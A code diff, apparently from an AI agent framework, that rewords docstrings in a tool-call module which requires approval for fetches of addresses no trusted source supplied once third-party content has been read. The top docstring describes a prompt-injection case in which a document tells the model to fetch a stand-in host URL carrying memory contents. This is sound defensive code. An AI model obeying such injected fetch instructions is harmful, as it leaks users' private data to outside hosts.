@@ -1,9 +1,9 @@
 """One call of a tool: found by name, within a time limit; every failure becomes an observation.
 
-Once third-party content is in the context, an address can leak data: a document may order a model to fetch
-`https://its.host/?d=WHAT_THE_MEMORY_HOLDS`. Reading needs no approval otherwise; so a call with an address from no
-trusted source needs it. Trusted are addresses of the user, of a plan that was written before the content was read, and
-of tools whose results name pages (`Traits.finds`).
+Once third-party content is in the context, fetching an address can leak data: a document may instruct the model to
+fetch `https://its.host/?d=CONTENTS_OF_THE_MEMORY`. Therefore a call that only reads needs approval if it contains an
+address from no trusted source. Trusted sources are the user, a plan that was written before the content was read, and
+tools whose results name pages (`Traits.finds`).
 """
 
 from __future__ import annotations
@@ -30,7 +30,7 @@ MAX_RESULT = 8_000
 
 @dataclass(frozen=True, slots=True)
 class Observation:
-    """The result of a call, or why it failed; `untrusted`: it is third-party content."""
+    """The result of a call, or the reason of its failure; `untrusted`: the text is third-party content."""
 
     text: str
     failed: bool = False
@@ -38,7 +38,7 @@ class Observation:
 
 
 class UntrustedText(str):
-    """A result that is third-party content, of a tool whose results are not always so."""
+    """A result that is third-party content, from a tool whose results are not always third-party content."""
 
     __slots__ = ()
 
@@ -48,7 +48,7 @@ async def call_tool(call: Call, tools: Sequence[Tool], timeout_s: float = 30.0) 
     tool = next((tool for tool in tools if tool.spec.name == call.tool), None)
     if tool is None:
         names = ", ".join(tool.spec.name for tool in tools) or "none"
-        return Observation(f"there is no tool {call.tool[:80]!r}; there are: {names}", failed=True)
+        return Observation(f"there is no tool {call.tool[:80]!r}; the tools are: {names}", failed=True)
     with span(genai.EXECUTE_TOOL, call.tool, {genai.TOOL: call.tool, genai.ARGUMENTS: call.arguments}) as traced:
         observation = await _observe(tool, call, timeout_s)
         if traits_of(tool).untrusted:
@@ -89,8 +89,8 @@ _ADDRESS = re.compile(r"\s*[a-z][a-z0-9+.\-]*:/*\S|\s*//", re.IGNORECASE)
 def addresses_of(arguments: JsonValue) -> frozenset[str]:
     """Return the arguments of a call that are addresses, in the form of `text.links.bare`.
 
-    A value that begins as an address is one as a whole: a tool sends all of it. Text that only contains an address
-    (a question to a search or a model) is not fetched.
+    A value that begins like an address counts as one address as a whole, because a tool would send all of it. A text
+    that only contains an address, such as a question to a search engine or a model, does not count: it is not fetched.
 
     Args:
         arguments: values, or their JSON text as a model wrote it.
@@ -106,8 +106,8 @@ def addresses_of(arguments: JsonValue) -> frozenset[str]:
 def ungiven(tool: Tool, arguments: str, given: Set[str]) -> str:
     """Return an address of a call that no trusted source gave; "" if there is none.
 
-    Tools that `change` something need approval in any case, and tools that `conclude` only read their arguments:
-    for both the result is "".
+    The result is "" for tools with the trait `changes`, which need approval anyway, and for tools with the trait
+    `concludes`, which only read their arguments.
     """
     if traits_of(tool).changes or traits_of(tool).concludes:
         return ""
@@ -115,7 +115,7 @@ def ungiven(tool: Tool, arguments: str, given: Set[str]) -> str:
 
 
 def refusal_of(address: str) -> str:
-    """Return the message to the model if such a call is not made."""
+    """Return the message to the model about a call that was not approved because of its address."""
     return (
         f"not called: neither the user nor a search gave the address {address[:200]!r}, third-party content was read"
         " before, and the call was not approved. Use an address that was given."
